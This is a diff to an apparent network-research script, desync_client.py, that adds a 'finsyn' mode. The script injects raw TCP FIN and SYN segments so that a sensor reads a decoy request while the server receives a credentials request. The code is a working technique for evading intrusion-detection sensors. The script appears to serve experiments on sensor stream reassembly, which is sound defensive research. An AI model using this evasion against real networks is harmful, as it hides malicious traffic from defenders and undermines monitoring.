@@ -6,11 +6,12 @@ Content-Length is exactly the credentials request: a sensor that reads COVER as 
 the stream reads the credentials request as its body. Prints the replies' status lines.
 Needs CAP_NET_RAW (raw and packet sockets).
 
-  desync_client.py SRC DST MODE        MODE: plain | dup | syn | rst
+  desync_client.py SRC DST MODE        MODE: plain | dup | syn | rst | finsyn
   plain: no injection (the control)
   dup:   COVER in a segment ending at the first byte of the stream (an old duplicate)
   syn:   a SYN carrying COVER ending at the first byte (the server, established, drops it)
   rst:   after a POST head, a RST carrying the last 4 body bytes again (seq != rcv_nxt)
+  finsyn: a FIN without ACK, then a SYN carrying COVER, both dropped by the server
 """
 import random
 import socket
@@ -86,6 +87,14 @@ def main():
         time.sleep(0.2)
         s.send(EVIL)
     elif mode == "syn":
+        inject(isn1 - len(COVER) - 1, 0x02, COVER)
+        time.sleep(0.2)
+        s.send(EVIL)
+    elif mode == "finsyn":
+        # a FIN without ACK at the next byte (the server drops it), then a SYN carrying COVER
+        # that ends at the next byte (the server, established, drops it too)
+        inject(isn1, 0x01, b"")
+        time.sleep(0.1)
         inject(isn1 - len(COVER) - 1, 0x02, COVER)
         time.sleep(0.2)
         s.send(EVIL)
